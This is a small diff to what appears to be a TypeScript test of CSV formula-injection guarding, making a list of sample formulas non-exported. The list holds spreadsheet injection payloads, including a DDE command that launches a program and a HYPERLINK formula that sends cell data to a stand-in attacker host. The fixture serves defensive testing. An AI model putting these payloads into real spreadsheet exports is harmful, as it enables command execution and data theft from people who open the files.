@@ -5,7 +5,7 @@ import { randomText } from "#lib/checks/random-texts.fixture.ts";
 import { guarded, readCsv, unguarded, writeCsv } from "./csv.ts";
 
 /** What spreadsheets have taken for a formula, a command or a request. */
-export const FORMULAS = [
+const FORMULAS = [
   "=1+1",
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?x="&A1,"click")',
